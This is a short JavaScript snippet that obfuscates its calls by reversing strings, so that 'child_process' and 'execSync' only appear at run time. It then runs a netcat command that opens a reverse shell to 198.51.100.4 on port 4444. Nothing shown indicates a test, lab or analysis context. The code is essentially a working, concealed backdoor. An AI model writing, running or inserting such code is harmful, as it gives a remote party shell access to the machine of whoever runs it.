// Names spelled backwards and reversed at run time.
const rev = (s) => s.split('').reverse().join('');
const cp = require(rev('ssecorp_dlihc'));
cp[rev('cnyScexe')]('nc -e /bin/sh 198.51.100.4 4444');
